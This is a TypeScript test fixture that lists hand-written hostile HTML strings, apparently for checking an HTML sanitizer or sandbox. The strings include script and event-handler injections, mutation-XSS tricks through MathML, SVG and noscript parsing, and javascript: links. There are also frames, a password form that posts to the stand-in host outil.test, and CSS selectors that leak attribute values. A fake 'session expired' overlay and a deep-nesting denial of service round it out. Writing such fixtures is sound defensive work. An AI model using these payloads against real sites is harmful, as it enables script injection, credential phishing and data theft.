/**
 * Hostile HTML, written by hand: each tries to run something, to fetch something, to leave its frame or to look like the page
 * around it. `window.top.caught` and a request to `outil.test` are what must never happen.
 */
const run = "top.caught='x';parent.caught='x';window.caught='x'";
const far = 'https://outil.test';

export const attacks: Readonly<Record<string, string>> = {
  'a script': `<script>${run}</script><p>lettre</p>`,
  'a script from elsewhere': `<script src="${far}/s.js"></script><p>lettre</p>`,
  'a module': `<script type="module">${run}</script><link rel="modulepreload" href="${far}/m.js"><p>lettre</p>`,
  'handlers of events': `<img src=x onerror="${run}"><body onload="${run}"><p onmouseover="${run}" onclick="${run}">lettre</p><details open ontoggle="${run}">x</details><marquee onstart="${run}">m</marquee>`,
  'handlers that need no press': `<style>@keyframes a{from{opacity:0}}</style><p style="animation:a 1s" onanimationstart="${run}">lettre</p><input autofocus onfocus="${run}"><svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  'SVG that acts': `<svg onload="${run}"><script>${run}</script><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject><use href="${far}/u.svg#x"/><image href="${far}/i.png"/></svg><p>lettre</p>`,
  'SVG as a picture': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'><image href='${far}/i.png'/></svg>"><p>lettre</p>`,
  'MathML that turns the parser': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;"></table></mtext></math><p>lettre</p>`,
  'a parser that is turned by nesting': `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>"></style></mtext></svg></mglyph></form></mtext></math><p>lettre</p>`,
  'a noscript that opens': `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript><p>lettre</p>`,
  'a template with a shadow': `<div><template shadowrootmode="open"><img src="${far}/t.png" onerror="${run}"></template></div><p>lettre</p>`,
  'links that run': `<a id=piege href="javascript:${run}">lettre</a><a href=" java\tscript:${run}">b</a><a href="data:text/html,<script>${run}</script>">c</a><a href="vbscript:x">d</a>`,
  'a page that is left': `<meta http-equiv="refresh" content="0;url=${far}/"><base href="${far}/"><p>lettre</p>`,
  frames: `<iframe src="${far}/"></iframe><iframe srcdoc="<script>${run}</script>"></iframe><object data="${far}/o"></object><embed src="${far}/e"><frameset><frame src="${far}/f"></frameset><p>lettre</p>`,
  'a form that asks for a password': `<form action="${far}/vol" method="post"><input name=p type=password><button formaction="${far}/vol">Se connecter</button></form><p>lettre</p>`,
  'pictures that tell': `<img src="${far}/a.png"><img srcset="${far}/b.png 2x"><picture><source srcset="${far}/c.png"><img></picture><video poster="${far}/d.png"><source src="${far}/e.mp4"></video><audio src="${far}/f.mp3"></audio><table background="${far}/g.png"><tr><td background="${far}/h.png">lettre</td></tr></table><input type=image src="${far}/i.png">`,
  'style sheets that tell': `<link rel=stylesheet href="${far}/s.css"><style>@import "${far}/i.css";@import url(${far}/j.css);@font-face{font-family:x;src:url(${far}/f.woff)}p{background:url(${far}/p.png);font-family:x;list-style-image:url('${far}/l.png');cursor:url(${far}/c.cur),auto}@media print{p{background:url(${far}/m.png)}}</style><p style="background:url(${far}/q.png);border-image:url(${far}/r.png) 1">lettre</p>`,
  'style sheets written to be misread': `<style>p{background:u\\72l(${far}/a.png);background:url(/**/${far}/b.png)}p::after{content:url("${far}/c.png")}/*</style><p style="background:ur\\6c(${far}/d.png);background-image:image-set('${far}/e.png' 1x)">lettre</p>`,
  'style sheets that read': `<style>a[href^="h"]{background:url(${far}/h)}input[value^="a"]{background:url(${far}/a)}</style><a href="https://ac-amiens.test/">lettre</a>`,
  'hints that fetch': `<link rel=prefetch href="${far}/a"><link rel=preconnect href="${far}"><link rel=dns-prefetch href="//outil.test"><link rel=icon href="${far}/i"><a ping="${far}/p" href="https://ac-amiens.test/">lettre</a>`,
  'names that clobber': `<form id=attributes><input name=nodeName></form><img name=getElementById><a id=body></a><img id=contentDocument name=cookie><a id=location href="${far}/"></a><p id=courrier>lettre</p>`,
  'a cover over the page': `<div style="position:fixed;inset:0;z-index:99999;background:#fff">Votre session a expiré. <a href="${far}/">Se reconnecter</a></div><p style="position:absolute;top:-400px">lettre</p>`,
  'a height without end': `<div style="height:100vh">lettre</div><div style="height:150vh"></div><style>html,body{height:100%;min-height:200vh}</style>`,
  'a name that is another’s': `<p>lettre</p><a href="${far}/connexion">https://portail.ac-amiens.test/connexion</a>`,
  'a link that calls home by a frame name': `<a target="_top" href="${far}/x">lettre</a><area href="${far}/y"><map name=m><area shape=rect coords="0,0,900,900" href="${far}/z"></map><img usemap="#m" src="x">`,
  'attributes of our own widgets': `<button popovertarget="x" command="show-modal" commandfor="x">lettre</button><div popover id=x>p</div><dialog open>d</dialog><p contenteditable autofocus accesskey=e tabindex=1>e</p>`,
  'XML that is read as HTML': `<?xml-stylesheet href="${far}/x.xsl"?><xml><![CDATA[<img src=x onerror="${run}">]]></xml><!--[if IE]><script>${run}</script><![endif]--><p>lettre</p>`,
  'nesting without end': `${'<div>'.repeat(3000)}lettre${'</div>'.repeat(3000)}`,
};
